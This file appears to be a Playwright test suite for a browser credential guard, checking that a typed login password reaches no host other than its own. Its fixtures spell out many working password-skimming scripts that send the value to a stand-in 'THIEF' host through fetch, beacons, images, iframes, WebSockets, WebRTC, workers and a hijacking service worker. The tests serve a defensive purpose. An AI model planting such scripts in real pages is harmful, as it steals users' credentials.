import { chromium, firefox } from '@playwright/test';
import { CredentialGuard } from '../../core/credentials/guard.ts';
import { withOneWayOut } from '../../core/live/one-way-out.ts';
import { keap } from '../../core/providers/keap.ts';
import { chromiumEngine, firefoxEngine } from '../../fixtures/engines.ts';
import { lookIntoRequests } from '../../fixtures/look-into-requests.ts';
import { needOneWayOut } from '../../fixtures/one-way-out.ts';
import { long, longUnless } from '../thorough.ts';
import { expect, login, test } from './thief.ts';

test('a live browser signs in where it may', async ({ logInAt, thief }) => {
  expect(await logInAt({})).toBeNull();
  expect(thief.heard).toEqual([]);
});

test('a login that is sent on by a redirect, body and all, reaches no other host', async ({
  logInAt,
  thief,
}) => {
  expect(await logInAt({ sendsOnTo: `${thief.origin}/collect` })).toBe('UntrustedPlace');
  expect(thief.heard).toEqual([]);
});

test('a login whose answer is a page that loads itself anew says so', async ({ logInAt, browserName }) => {
  test.skip(browserName !== 'chromium', 'Firefox asks somebody first, and nobody is there');
  expect(await logInAt({ answer: '<h1>Hello</h1><script>location.reload()</script>' })).toBe(
    'UntrustedPlace',
  );
});

test('a login that is led back to where it was sent, body and all, says so', async ({
  logInAt,
  browserName,
}) => {
  test.skip(browserName !== 'chromium', 'only Chromium has a debugger that sees it');
  expect(await logInAt({ sendsOnTo: '/auth' })).toBe('UntrustedPlace');
});

test(
  'a login that is led on to another address of its host, body and all, gets there',
  long,
  async ({ logInAt }) => {
    expect(await logInAt({ sendsOnTo: '/auth?again' })).toBeNull();
  },
);

test('a form that its page sends twice at once is sent', long, async ({ logInAt }) => {
  const twice = "document.querySelector('button').onclick = () => document.forms[0].submit()";
  expect(await logInAt({ script: twice })).toBeNull();
});

const field = "document.querySelector('[type=password]')";
const onInput = (send: string) =>
  `${field}.addEventListener('input', ({ target: { value } }) => { ${send} })`;
const onSubmit = (send: string) =>
  `document.forms[0].addEventListener('submit', (sent) => { const { value } = ${field}; ${send} })`;

/** What a page may do with what is typed; `THIEF` is another host. */
const scripts: Readonly<Record<string, string>> = {
  'a fetch as it is typed': onInput("fetch('THIEF/', { method: 'POST', mode: 'no-cors', body: value })"),
  'a beacon as it is sent': onSubmit("navigator.sendBeacon('THIEF/', value)"),
  'a picture': onInput("new Image().src = 'THIEF/?' + value"),
  'a window that it opens': onInput("window.open('THIEF/?' + value)"),
  'a frame': onInput(
    "document.body.append(Object.assign(document.createElement('iframe'), { src: 'THIEF/?' + value }))",
  ),
  'another address of the form, as it is sent': onSubmit("sent.target.action = 'THIEF/'"),
  'another window for the form, as it is sent': onSubmit(
    "sent.target.action = 'THIEF/'; sent.target.target = '_blank'",
  ),
  'a second form': onInput(
    "const form = document.createElement('form'); form.method = 'post'; form.action = 'THIEF/'; form.innerHTML = '<input name=p>'; document.body.append(form); form.p.value = value; form.requestSubmit()",
  ),
};

for (const [what, script] of Object.entries(scripts))
  test(
    `what is typed does not leave a live browser by ${what}`,
    longUnless(what === 'a fetch as it is typed'),
    async ({ logInAt, thief }) => {
      expect(await logInAt({ script: script.replaceAll('THIEF', thief.origin) })).toBe('UntrustedPlace');
      expect(thief.heard).toEqual([]);
    },
  );

/** Ways that a page's own debugger does not see, or sees too late; `PART` is a host that the page has parts from. */
const toParts: Readonly<Record<string, string>> = {
  'an address, of a WebSocket': onInput("new WebSocket('PART/?'.replace('http', 'ws') + value)"),
  'an address, of a WebSocket in a worker': onInput(
    'new Worker(URL.createObjectURL(new Blob([\'onmessage = ({ data }) => new WebSocket("PART/?".replace("http", "ws") + data)\']))).postMessage(value)',
  ),
  'the first page of a window': onInput("window.open('PART/?' + value)"),
  'what is fetched ahead': onInput(
    "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'PART/?' + value }))",
  ),
  'what a WebSocket says': onInput(
    "new WebSocket('PART/'.replace('http', 'ws')).onopen = ({ target }) => target.send(value)",
  ),
  'a header': onInput("fetch('PART/', { mode: 'no-cors', headers: { 'accept-language': value } })"),
};

for (const [what, script] of Object.entries(toParts))
  test(
    `a password does not leave Chromium in clear to a host of the profile that is not for it, by ${what}`,
    longUnless(what === 'the first page of a window'),
    async ({ logInAt, part, browserName }) => {
      test.skip(browserName !== 'chromium', 'only Chromium has a debugger that sees it');
      const waits = onSubmit('sent.preventDefault(); setTimeout(() => document.forms[0].submit(), 500)');
      const page = `${script.replaceAll('PART', part.origin)};${waits}`;
      expect(await logInAt({ script: page })).toBe('UntrustedPlace');
      expect(part.heard.filter((one) => one.includes(login.password))).toEqual([]);
    },
  );

/** What a page says by a WebSocket (`at`) beside its messages, which over TLS the way out cannot look into. */
const besideMessages: Readonly<Record<string, string>> = {
  'one of its subprotocols': "new WebSocket(at, ['v1', 'token.' + said])",
  'its only subprotocol': 'new WebSocket(at, said)',
  'a cookie that goes with it': "document.cookie = 'said=' + said; new WebSocket(at)",
  'the reason for which it is closed':
    "new WebSocket(at).onopen = ({ target }) => target.close(3000, 'for ' + said)",
};

for (const [what, script] of Object.entries(besideMessages))
  test(
    `a password does not leave Chromium by a WebSocket, as ${what}, and what is none does`,
    longUnless(what === 'one of its subprotocols'),
    async ({ browser, part, browserName }) => {
      test.skip(browserName !== 'chromium', 'only Chromium has a debugger that sees it');
      const guard = new CredentialGuard({ ...keap, partHosts: [new URL(part.origin).host] }, []);
      const context = await browser.newContext();
      // Without the way out: it looks into a WebSocket that has no TLS.
      await lookIntoRequests(context, guard);
      await guard.typing('password', login.password);
      const page = await context.newPage();
      await page.goto(part.origin);
      const at = part.origin.replace('http', 'ws');
      const says = (said: string) =>
        page.evaluate(`{ const at = '${at}', said = '${said}'; ${script}; null }`);
      await says('harmless');
      await expect.poll(() => part.heard.join('\n')).toContain('harmless');
      expect(guard.hear()).toBeNull();
      await says(login.password);
      await expect.poll(() => guard.hear()?.message).toMatch(/^the password would have gone to 127\.0\.0\.1/);
      await context.close();
      expect(part.heard.filter((one) => one.includes(login.password))).toEqual([]);
    },
  );

/** Nobody can read these; that there is a way is enough. */
const unreadable: Readonly<Record<string, string>> = {
  'a WebSocket': onInput(
    "new WebSocket('THIEF/'.replace('http', 'ws')).onopen = ({ target }) => target.send(value)",
  ),
  'a hash of it': onInput(
    "crypto.subtle.digest('SHA-256', new TextEncoder().encode(value)).then((hash) => fetch('THIEF/?' + new Uint8Array(hash), { mode: 'no-cors' }))",
  ),
  'its letters one by one': onInput(
    "for (const letter of value) fetch('THIEF/?' + letter.charCodeAt(0), { mode: 'no-cors' })",
  ),
  'a worker': onInput(
    'new Worker(URL.createObjectURL(new Blob([\'onmessage = ({ data }) => fetch("THIEF/", { method: "POST", mode: "no-cors", body: [...data].reverse().join("") })\']))).postMessage(value)',
  ),
};

test('what is typed does not leave a live browser by WebRTC, whose datagrams pass every proxy', async ({
  logInAt,
  listener,
}) => {
  const script = onInput(`
    const connection = new RTCPeerConnection({
      iceServers: [{ urls: 'turn:LISTENER?transport=udp', username: value, credential: 'x' }],
    });
    connection.createDataChannel('any');
    connection.setLocalDescription()`);
  const waits = onSubmit('sent.preventDefault(); setTimeout(() => document.forms[0].submit(), 1000)');
  const page = `${script.replace('LISTENER', listener.at)};${waits}`;
  expect(await logInAt({ script: page })).toBeNull();
  expect(listener.heard).toEqual([]);
});

for (const browserName of ['chromium', 'firefox'] as const)
  test(
    `a ${browserName} that lets pages send by WebRTC is given no credential`,
    longUnless(browserName === 'chromium'),
    async ({ config }) => {
      // Two browsers are started, and Firefox takes ten seconds for one where a machine is busy.
      test.setTimeout(120_000);
      const { launchOptions, channel, missingEngine } =
        browserName === 'chromium' ? chromiumEngine(config) : firefoxEngine(config);
      test.skip(missingEngine !== null, missingEngine ?? '');
      const type = browserName === 'chromium' ? chromium : firefox;
      // The runner has its own arguments, which it would add.
      const asItIs = await type.launch({ args: [], ...launchOptions, ...(channel && { channel }) });
      await expect(needOneWayOut(asItIs)).rejects.toThrow('this browser lets pages send by WebRTC');
      await asItIs.close();
      const options = withOneWayOut(browserName, launchOptions ?? {});
      const kept = await type.launch({ ...options, ...(channel && { channel }) });
      await needOneWayOut(kept);
      await kept.close();
    },
  );

for (const [what, script] of Object.entries(unreadable))
  test(
    `what nobody can read does not leave a live browser either: ${what}`,
    longUnless(what === 'a WebSocket'),
    async ({ logInAt, thief }) => {
      expect(await logInAt({ script: script.replaceAll('THIEF', thief.origin) })).toBeNull();
      expect(thief.heard).toEqual([]);
    },
  );

/** What a page that stays does as its browser closes, beside that it sends what it has kept. */
const asItCloses = {
  'at once': '',
  'after it has been busy for long':
    "addEventListener('beforeunload', () => { const from = Date.now(); while (Date.now() - from < 9000); });",
  'from a page that it puts in its place':
    "addEventListener('beforeunload', () => { if (kept) setTimeout(() => { location.href = '/again#' + kept; }); });",
  'from a window that it opens':
    "for (const event of ['beforeunload', 'pagehide', 'unload']) addEventListener(event, () => { if (kept) open('/again#' + kept); });",
};

for (const [how, also] of Object.entries(asItCloses))
  test(
    `what a page that stays sends as its browser closes reaches no other host: ${how}`,
    longUnless(how === 'at once'),
    async ({ logInAt, thief }) => {
      const script = `let kept = location.hash.slice(1);
        ${onInput('if (value) kept = value;')}
        document.forms[0].addEventListener('submit', (sent) => sent.preventDefault());
        addEventListener('pagehide', () => { if (kept) navigator.sendBeacon('${thief.origin}/', kept); });
        ${also}`;
      await logInAt({ script, closes: true });
      expect(thief.heard.filter((one) => one.startsWith('POST'))).toEqual([]);
      expect(thief.heard.some((one) => one.startsWith('GET /after'))).toBe(true);
    },
  );

test('a service worker that answers the login in place of the server takes it to no other host', async ({
  logInAt,
  thief,
  browserName,
}) => {
  const worker = `
addEventListener('install', () => skipWaiting());
addEventListener('activate', (event) => event.waitUntil(clients.claim()));
addEventListener('fetch', (event) => {
  if (event.request.method !== 'POST') return;
  event.respondWith(event.request.text().then((body) => fetch('THIEF/', { method: 'POST', mode: 'no-cors', body }))
    .then(() => new Response('<h1>Hello</h1><button name="yes">Yes</button>', { headers: { 'content-type': 'text/html' } })));
});`;
  // Until it is there, the page that was opened is one without it.
  const script = `navigator.serviceWorker.register('/worker.js').then((it) => it && navigator.serviceWorker.ready)
.then((it) => { if (!it) document.title = 'no worker'; else if (!navigator.serviceWorker.controller) location.reload(); else document.title = 'watched'; })`;
  // In Firefox pages of a live run have none.
  const waitFor = browserName === 'firefox' ? 'no worker' : 'watched';
  await logInAt({ worker: worker.replaceAll('THIEF', thief.origin), script, waitFor });
  expect(thief.heard).toEqual([]);
});
